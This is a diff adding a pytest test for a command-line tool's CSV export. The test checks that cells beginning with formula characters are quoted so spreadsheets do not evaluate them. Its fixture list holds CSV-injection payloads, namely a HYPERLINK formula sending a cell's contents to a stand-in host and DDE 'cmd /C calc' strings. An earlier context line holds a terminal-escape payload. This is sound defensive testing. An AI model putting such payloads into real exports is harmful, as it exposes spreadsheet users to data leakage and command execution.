@@ -4,6 +4,8 @@ name runs as SQL, no copy is easier to read than the archive, and no path opens 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import subprocess
@@ -119,3 +121,44 @@ def test_terminal_escapes_in_the_central_database_never_reach_the_operator_s_ter
         assert result.returncode == 0, result.stderr
         assert_safe_for_a_terminal(result, shown=r"gpu\x1b]0;owned\x07")
     assert SHOWN[:40] in cli(redis_server, db_path, "history", "--postgres-url", pg_url).stdout
+
+
+# ─── spreadsheet formulas ────────────────────────────────────────────────────────────────────────
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"details")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_a_csv_export_neutralises_what_a_spreadsheet_would_run(redis_server, redis, db_path: Path) -> None:
+    """A text cell that starts with = + - @, a tab or a carriage return is written after a single
+    quote, so a spreadsheet shows it instead of evaluating it; --raw-csv writes the text as it is,
+    and JSON Lines always does."""
+    for formula in FORMULAS:
+        redis.hset(f"desto:favorite:f{FORMULAS.index(formula)}", mapping=favorite_hash(
+            f"f{FORMULAS.index(formula)}", name=formula, command=formula, use_count="-1"))  # fmt: skip
+    assert cli(redis_server, db_path, "backfill").returncode == 0
+
+    out = db_path.parent / "favorites.csv"
+    result = cli(redis_server, db_path, "export", "favorites", "--format", "csv", "-o", str(out))
+    assert result.returncode == 0, result.stderr
+    with open(out, newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert sorted(r["name"] for r in rows) == sorted("'" + f for f in FORMULAS)
+    assert sorted(r["command"] for r in rows) == sorted("'" + f for f in FORMULAS)
+    assert {r["favorite_id"] for r in rows} == {f"f{i}" for i in range(len(FORMULAS))}  # the rest as it was
+
+    raw = cli(redis_server, db_path, "export", "favorites", "--format", "csv", "--raw-csv")
+    assert raw.returncode == 0, raw.stderr
+    rows = list(csv.DictReader(io.StringIO(raw.stdout, newline="")))
+    assert sorted(r["name"] for r in rows) == sorted(FORMULAS)
+
+    jsonl = cli(redis_server, db_path, "export", "favorites")
+    assert sorted(json.loads(line)["name"] for line in jsonl.stdout.splitlines()) == sorted(FORMULAS)
+    wrong = cli(redis_server, db_path, "export", "favorites", "--raw-csv")
+    assert wrong.returncode == 2 and "--format csv" in wrong.stderr
